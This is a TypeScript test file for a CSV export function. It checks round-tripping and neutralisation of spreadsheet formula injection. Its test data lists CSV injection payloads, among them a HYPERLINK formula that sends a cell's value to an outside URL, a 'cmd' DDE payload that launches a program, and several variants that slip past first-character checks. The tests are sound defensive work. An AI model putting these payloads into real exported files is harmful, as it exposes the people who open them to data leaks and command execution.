import { parse } from "csv-parse/sync";
import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csv } from "./csv";

describe("CSV", () => {
  it("is given back by a general reader as it was", () => {
    const rows = [
      ["week closing", "Waist, mean (cm)", "says"],
      ["2026-01-04", 78.5, 'a "quoted" word, and a line\nbreak'],
      ["2026-01-11", null, ""],
      ["2026-01-18", -0.4, "Größe 3 − 2"],
    ];
    expect(parse(csv(rows))).toEqual(rows.map((row) => row.map((cell) => String(cell ?? ""))));
  });

  // The first four are those of OWASP's page on CSV injection, from memory; the others go around a check of the first
  // character.
  it.each([
    '=HYPERLINK("http://example.org/?"&A1,"Waist")',
    "=1+1",
    "+1+1",
    "@SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u0000=1+1",
    "=1+1\nin two lines",
    "＝1+1",
    '"=1+1"\n',
  ])("neutralises %j wherever it stands, in the head too", (text) => {
    for (const row of parse(
      csv([
        [text, "b"],
        ["a", text],
      ]),
    ) as string[][])
      for (const cell of row) expect(cell.trim()).not.toMatch(/^[\s\u0000\ufeff]*[=+\-@＝＋－＠]/u);
  });

  it("leaves numbers below zero to be numbers", () => {
    expect(csv([["change"], [-0.42], [0], [null]])).toBe("change\r\n-0.42\r\n0\r\n\r\n");
  });

  it("property: any cells come back, but for an apostrophe before what could be a formula", () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: "binary" }), { minLength: 2, maxLength: 2 }), {
          minLength: 1,
          maxLength: 5,
        }),
        (rows) => {
          const read = Papa.parse(csv(rows).slice(0, -2), { newline: "\r\n", delimiter: "," }).data as string[][];
          expect(
            read.map((row) => row.map((cell) => cell.replace(/^'(?=[\s\u0000-\u001f\ufeff]*[=+\-@＝＋－＠])/u, ""))),
          ).toEqual(
            rows.map((row) => row.map((cell) => cell.replace(/^'(?=[\s\u0000-\u001f\ufeff]*[=+\-@＝＋－＠])/u, ""))),
          );
        },
      ),
    );
  });
});
